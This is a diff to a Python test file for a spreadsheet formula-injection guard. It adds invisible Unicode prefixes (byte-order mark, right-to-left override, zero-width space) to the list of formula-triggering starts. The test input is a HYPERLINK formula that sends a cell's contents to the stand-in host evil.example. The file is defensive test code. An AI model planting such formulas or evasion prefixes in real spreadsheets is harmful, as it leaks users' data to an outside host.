@@ -8,7 +8,25 @@ LINK = 'HYPERLINK("https://evil.example/?"&A1)'
 
 
 @pytest.mark.parametrize(
-    "begins", ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\t", "\r", "\n", " =", "\u00a0=", "\uff1d"]
+    "begins",
+    [
+        "=",
+        "+",
+        "-",
+        "@",
+        "\t=",
+        "\r=",
+        "\n=",
+        "\t",
+        "\r",
+        "\n",
+        " =",
+        "\u00a0=",
+        "\uff1d",
+        "\ufeff=",
+        "\u202e @",
+        "\u200b=",
+    ],
 )
 def test_what_may_be_a_formula_is_shown_as_text(begins: str) -> None:
     assert guarded({"from": begins + LINK}) == {"from": "'" + begins + LINK}
